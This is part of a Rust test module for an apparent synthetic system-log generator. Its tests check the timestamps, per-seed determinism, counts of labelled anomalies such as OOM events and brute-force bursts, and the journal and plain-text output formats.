        d.sort_unstable();
        d.dedup();
        d
    }

    #[test]
    fn start_is_monday_2026_11_02() {
        let x = tm(T0);
        assert_eq!(
            (x.year, x.mon, x.day, x.h, x.m, x.s),
            (2026, 11, 2, 0, 0, 0)
        );
        assert_eq!(WDAY[x.wday], "Mon");
        assert_eq!(ctime(T0 + 9 * HOUR), "Mon Nov  2 09:00:00 2026");
    }

    #[test]
    fn deterministic_per_seed_and_seeds_differ() {
        let a = generate(7);
        let b = generate(7);
        assert_eq!(a, b);
        let c = generate(8);
        assert_ne!(a, c);
    }

    #[test]
    fn sorted_and_inside_the_week() {
        for seed in [1, 2, 3] {
            let lines = generate(seed);
            assert!(lines.windows(2).all(|w| w[0].usec <= w[1].usec));
            assert!(lines.iter().all(|l| (T0..T_END).contains(&l.usec)));
        }
    }

    #[test]
    fn volume_and_anomaly_counts() {
        for seed in 1..=12 {
            let lines = generate(seed);
            let n = lines.len();
            let bad = lines.iter().filter(|l| l.label.is_some()).count();
            assert!((8_000..=12_000).contains(&n), "seed {seed}: {n} lines");
            assert!(
                (60..=120).contains(&bad),
                "seed {seed}: {bad} anomalous lines"
            );
        }
    }

    #[test]
    fn warm_up_is_clean() {
        for seed in 1..=12 {
            let lines = generate(seed);
            assert!(
                lines[..1000].iter().all(|l| l.label.is_none()),
                "seed {seed}"
            );
        }
    }

    #[test]
    fn every_kind_present_and_only_known_kinds() {
        for seed in 1..=12 {
            let lines = generate(seed);
            for k in KINDS {
                assert!(
                    lines.iter().any(|l| l.label == Some(k)),
                    "seed {seed}: no {k}"
                );
            }
            assert!(lines
                .iter()
                .all(|l| l.label.is_none_or(|k| KINDS.contains(&k))));
        }
    }

    #[test]
    fn oom_recurs_on_three_days() {
        for seed in 1..=12 {
            let lines = generate(seed);
            let days = days_with(&lines, "oom");
            assert!(days.len() >= 3, "seed {seed}: oom on days {days:?}");
        }
    }

    #[test]
    fn bruteforce_is_a_burst() {
        for seed in 1..=12 {
            let lines = generate(seed);
            let b: Vec<&Line> = lines
                .iter()
                .filter(|l| l.label == Some("bruteforce"))
                .collect();
            assert!(
                (30..=60).contains(&b.len()),
                "seed {seed}: {} bruteforce lines",
                b.len()
            );
            assert!(b.last().unwrap().usec - b[0].usec < 10 * MIN);
        }
    }

    #[test]
    fn benign_novelties_recur_unlabelled() {
        let lines = generate(3);
        let newcron: Vec<&Line> = lines
            .iter()
            .filter(|l| l.identifier == "CRON" && l.message.contains("/usr/local/sbin/"))
            .collect();
        assert!(newcron.len() > 40, "{}", newcron.len());
        assert!(newcron.iter().all(|l| l.label.is_none()));
        assert!(lines.iter().any(
            |l| l.message == "Started fail2ban.service - Fail2Ban Service." && l.label.is_none()
        ));
    }

    #[test]
    fn formats() {
        assert_eq!(span(518_000), "518ms");
        assert_eq!(span(2_104_000), "2.104s");
        assert_eq!(span(63_200_000), "1min 3.2s");
        assert_eq!(span(3_723_456_000), "1h 2min 3.456s");
        let l = Line {
            usec: T0,
            identifier: "x",
            pid: Some(5),
            message: "a \"b\"\n\\c\u{1}".into(),
            label: None,
        };
        assert_eq!(l.plain(), "x[5]: a \"b\"\n\\c\u{1}");
        assert_eq!(
            Line {
                usec: T0 + DAY + 3 * HOUR + 61 * SEC,
                ..l.clone()
            }
            .short_iso(),
            "2026-11-03T03:01:01+00:00 mx1 x[5]: a \"b\"\n\\c\u{1}"
        );
        assert_eq!(
            l.journal_json(),
            format!("{{\"__REALTIME_TIMESTAMP\":\"{T0}\",\"_HOSTNAME\":\"mx1\",\"SYSLOG_IDENTIFIER\":\"x\",\"_PID\":\"5\",\"PRIORITY\":\"6\",\"MESSAGE\":\"a \\\"b\\\"\\n\\\\c\\u0001\"}}")
        );
        let k = Line {
            pid: None,
            identifier: "kernel",
            ..l
        };
        assert!(!k.journal_json().contains("_PID"));
    }

    #[test]
    fn pids_look_real() {
        let lines = generate(1);
        let pids: Vec<u32> = lines
            .iter()
            .filter(|l| {
                l.identifier == "CRON"
                    && l.message
                        .starts_with("pam_unix(cron:session): session opened")
            })
            .map(|l| l.pid.unwrap())
            .collect();
        // increasing except for one wrap at pid_max
        let drops = pids.windows(2).filter(|w| w[1] < w[0]).count();
        assert!(drops <= 1, "{drops}");
        assert!(pids.iter().any(|&p| p > 1_000_000) && pids.iter().any(|&p| p < 1_000_000));
    }
}
